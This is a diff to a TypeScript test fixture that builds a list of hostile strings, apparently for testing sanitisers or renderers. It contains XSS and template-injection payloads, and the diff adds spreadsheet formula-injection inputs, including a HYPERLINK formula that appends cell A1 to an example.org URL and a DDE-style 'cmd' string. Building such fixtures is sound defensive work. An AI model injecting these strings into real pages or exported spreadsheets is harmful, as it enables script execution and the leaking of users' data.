@@ -1,4 +1,5 @@
-const seeds = [
+/** What tries to be markup, script, attributes, links or formulas. */
+export const hostileSeeds: readonly string[] = [
   '<script>alert(1)</script>',
   '</script><script>alert(1)</script>',
   '</style><script>alert(1)</script>',
@@ -38,6 +39,10 @@ const seeds = [
   '\u202e<script>\u202c',
   '\u0000<b>\u0000',
   '*a* _b_ `c` ~~d~~',
+  '=HYPERLINK("https://example.org/"&A1,"x")',
+  '\t+1+cmd|x!A0',
+  '\uFF1D1+1',
+  "'@SUM(A1)",
   '{{constructor.constructor("alert(1)")()}}',
 ]
 const wraps = [
@@ -48,5 +53,5 @@ const wraps = [
   (text: string) => `**${text}**\\`,
 ]
 
-/** 200 strings that try to be markup, script, attributes or links. */
-export const hostileStrings: readonly string[] = wraps.flatMap((wrap) => seeds.map(wrap))
+/** More than 200 strings: these by themselves, and with something around them. */
+export const hostileStrings: readonly string[] = wraps.flatMap((wrap) => hostileSeeds.map(wrap))
